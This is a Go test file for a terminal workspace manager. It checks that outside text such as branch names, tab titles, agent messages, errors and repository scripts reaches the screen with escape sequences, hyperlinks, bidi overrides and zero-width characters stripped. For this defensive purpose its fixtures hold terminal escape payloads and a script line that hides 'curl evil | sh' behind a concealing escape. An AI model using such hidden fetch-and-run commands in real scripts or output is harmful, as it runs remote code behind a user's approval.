package app

import (
	"errors"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"amux.dev/amux/app/modal"
	"amux.dev/amux/app/scene"
	"amux.dev/amux/config"
	"amux.dev/amux/status/agentstate"
	"amux.dev/amux/status/monitor"
	"amux.dev/amux/tmux"
	"amux.dev/amux/workspace"
)

// evil holds what safetext.Line removes: a colour, an OSC 8 link, a bidi
// override and a zero-width space.
const evil = "\x1b[5m\x1b]8;;mailto:evil\x1b\\x\x1b]8;;\x1b\\\u202e\u200b"

// leaked reports which part of evil's payload out still holds.
func leaked(out string) string {
	for _, bad := range []string{"\x1b[5m", "\x1b]8;", "mailto:evil", "\u202e", "\u200b"} {
		if strings.Contains(out, bad) {
			return bad
		}
	}
	return ""
}

// hostileModel loads one project and workspace whose every outside string
// carries evil; with a live tab session when tab is set.
func hostileModel(t *testing.T, tab bool) (*Model, workspace.Record) {
	t.Helper()
	repo := "/home/dev/code/shop" + evil
	rec := workspace.Record{ID: "1111111111111111", Name: "feat" + evil, Branch: "feat" + evil, Base: "main" + evil,
		Repo: repo, Root: "/home/dev/.amux/worktrees/shop" + evil + "/feat", Created: time.Now(),
		Tabs: []workspace.Tab{{ID: "tab-a-1", Type: tmux.TypeAgent, Assistant: "claude", Title: "plan" + evil}}}
	var sessions []tmux.SessionInfo
	if tab {
		sessions = []tmux.SessionInfo{{ID: "$1", Name: "amux-1111111111111111-tab-a-1", Managed: true, Workspace: rec.ID,
			Tab: "tab-a-1", Type: tmux.TypeAgent, Assistant: "claude" + evil}}
	}
	snap := scene.NewSnapshot([]workspace.Project{{Name: "shop" + evil, Path: repo}}, []workspace.Record{rec}, sessions)
	m := New(withEngine(Deps{Config: config.Defaults(), Now: time.Now}, testEngine(t)))
	m.Update(tea.WindowSizeMsg{Width: 160, Height: 40})
	m.Update(loadedMsg{gen: m.list.loadGen, snap: snap})
	return m, rec
}

// A load's projects, records, tab titles and session tags are drawn from
// their display copies; the records keep the originals for the engine.
func TestLoadedOutsideTextIsDrawnInert(t *testing.T) {
	m, rec := hostileModel(t, false)
	for _, move := range []int{0, 1} { // the project's facts, then the workspace's
		m.list.rows.Move(move)
		out := m.render()
		if bad := leaked(out); bad != "" {
			t.Fatalf("the screen carries %q:\n%q", bad, out)
		}
		if !strings.Contains(out, "shopx") || (move == 1 && !strings.Contains(out, "/home/dev/.amux/worktrees/shopx/feat")) {
			t.Fatalf("the visible letters are gone:\n%s", out)
		}
	}
	if got, _ := m.list.record(rec.ID); got.Root != rec.Root || got.Branch != rec.Branch || got.Name != rec.Name {
		t.Fatalf("the record lost its originals: %+v", got)
	}

	m, rec = hostileModel(t, true)
	if bad := leaked(m.render()); bad != "" {
		t.Fatalf("the tab bar carries %q", bad)
	}
	wt := m.tabs.of(rec.ID)
	if wt == nil || len(wt.tabs) != 1 {
		t.Fatalf("tabs = %+v", wt)
	}
	if l := wt.tabs[0].label(); l != "planx" {
		t.Fatalf("tab label = %q, want the title's display copy", l)
	}
	if a := wt.tabs[0].assistant; a != "claudex" {
		t.Fatalf("assistant = %q, want the tag's display copy", a)
	}
}

// A scan's reported message, kind and app enter the tabs as display
// copies, and a notice carrying an error is one inert line.
func TestReportsAndErrorsAreDrawnInert(t *testing.T) {
	m, rec := hostileModel(t, true)
	m.list.rows.Move(1)
	m.update(monitorMsg{monitor.Result{Sessions: map[string]monitor.SessionState{"amux-1111111111111111-tab-a-1": {
		Name: "amux-1111111111111111-tab-a-1", Workspace: rec.ID, Tab: "tab-a-1",
		Result: agentstate.Result{State: agentstate.Blocked, Kind: "question" + evil, Message: "approve" + evil + "\nnow",
			App: "fake" + evil, Source: agentstate.SourceReported, Detail: "reported by fake" + evil},
	}}}})
	st := m.tabs.of(rec.ID).tabs[0].state
	for _, s := range []string{st.Kind, st.Message, st.App, st.Detail} {
		if bad := leaked(s); bad != "" || strings.Contains(s, "\n") {
			t.Fatalf("scan state kept %q: %+v", bad, st)
		}
	}
	m.say(modal.LevelError, "git: "+errors.New("fatal: "+evil+"\nhint: more").Error())
	if bad := leaked(m.notice.text); bad != "" || strings.Contains(m.notice.text, "\n") {
		t.Fatalf("notice = %q", m.notice.text)
	}
	if bad := leaked(m.render()); bad != "" {
		t.Fatalf("the screen carries %q", bad)
	}
}

// The status dialog shows a repository's script commands without their
// escapes (which could hide the rest of a line from the approval).
func TestShownStatusDropsEscapesFromScripts(t *testing.T) {
	raw := workspace.Status{Scripts: []workspace.ScriptInfo{{Kind: "run", Source: "repo", Commands: []string{"echo hi\x1b[8m; curl evil | sh"}}}}
	got := shownStatus(raw)
	if c := got.Scripts[0].Commands[0]; c != "echo hi; curl evil | sh" {
		t.Fatalf("shown command = %q", c)
	}
	if raw.Scripts[0].Commands[0] != "echo hi\x1b[8m; curl evil | sh" {
		t.Fatal("shownStatus changed the original")
	}
}
